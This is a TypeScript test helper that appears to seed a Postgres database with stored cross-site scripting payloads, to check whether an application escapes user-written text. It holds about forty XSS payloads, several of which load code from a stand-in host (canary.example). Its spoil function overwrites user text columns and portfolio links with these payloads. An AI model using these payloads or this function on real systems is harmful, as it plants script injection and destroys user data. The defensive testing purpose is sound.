/** Puts scripts in the place of every text that people have written, as somebody would who has got past every check. */
import { Client } from 'pg';

/** Runs when a page takes it for anything but text: a dialog, or a request to a host that is not ours. */
export const payloads = [
  '<script>alert(1)</script>',
  '<script src="//canary.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="//canary.example/x.png">',
  '<img src="https://canary.example/a.png">',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1) />#x">',
  '"><svg/onload=alert(1)>',
  "'-alert(1)-'",
  '" onmouseover=alert(1) autofocus onfocus=alert(1) x="',
  '</title><script>alert(1)</script>',
  '</textarea><img src=x onerror=alert(1)>',
  '</style><img src=x onerror=alert(1)>',
  '<style>@import url(//canary.example/x.css);</style>',
  '<link rel=stylesheet href=//canary.example/x.css>',
  '<link rel=prefetch href=//canary.example/x>',
  '<meta http-equiv=refresh content="0;url=//canary.example/">',
  '<base href=//canary.example/>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data=//canary.example/x></object>',
  '<embed src=//canary.example/x>',
  '<video src=//canary.example/x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<form action=//canary.example/><button>x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<p style="background:url(//canary.example/x.png)">x</p>',
  '<div style="position:fixed;inset:0" onclick=alert(1)>x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<template><script>alert(1)</script></template>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '{{constructor.constructor("alert(1)")()}}${alert(1)}',
  'javascript:alert(1)//',
] as const;
const allPayloads = payloads.join(' ');

/** HTML, which the server cleans on its way in; everything else is text, and may be anything. */
const html = ['listing.description'];

interface Column {
  readonly table_name: string;
  readonly column_name: string;
  readonly data_type: string;
}

/**
 * Whatever column holds a text with a Chinese character is one that people write or read. Answers "table.column" of each
 * that was changed; those whose rows may not be changed at all, such as the books', stay.
 */
export async function spoil(databaseUrl: string): Promise<string[]> {
  const client = new Client({ connectionString: databaseUrl });
  await client.connect();
  const { rows } = await client.query<Column>(
    `select table_name, column_name, data_type from information_schema.columns
     where table_schema = 'public' and is_generated = 'NEVER' and data_type in ('text', 'ARRAY', 'jsonb')
       and (data_type <> 'ARRAY' or udt_name = '_text') order by 1, 2`,
  );
  const spoilt: string[] = [];
  for (const column of rows) {
    if (html.includes(`${column.table_name}.${column.column_name}`)) continue;
    // The longest that the column takes.
    for (const text of [allPayloads, '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>']) {
      const count = await client.query(statementFor(column, text)).then(
        (result) => result.rowCount ?? 0,
        () => undefined,
      );
      if (count === undefined) continue;
      if (count > 0) spoilt.push(`${column.table_name}.${column.column_name}`);
      break;
    }
  }
  await client.query(`update portfolio set link = 'javascript:alert(1)//http://canary.example/'`);
  await client.end();
  return spoilt;
}

function statementFor({ table_name: table, column_name: column, data_type: type }: Column, text: string): string {
  const given = `'${text.replaceAll("'", "''")}'`;
  const json = `'${JSON.stringify(text).replaceAll("'", "''").replaceAll('\\', '\\\\')}'`;
  const value =
    type === 'text'
      ? `${given} || ' ' || ctid::text`
      : type === 'jsonb'
        ? `regexp_replace(${column}::text, '"[^"]*[一-龥][^"]*"', ${json}, 'g')::jsonb`
        : `array[${given}]`;
  return `update "${table}" set "${column}" = ${value} where ${column}::text ~ '[一-龥]'`;
}
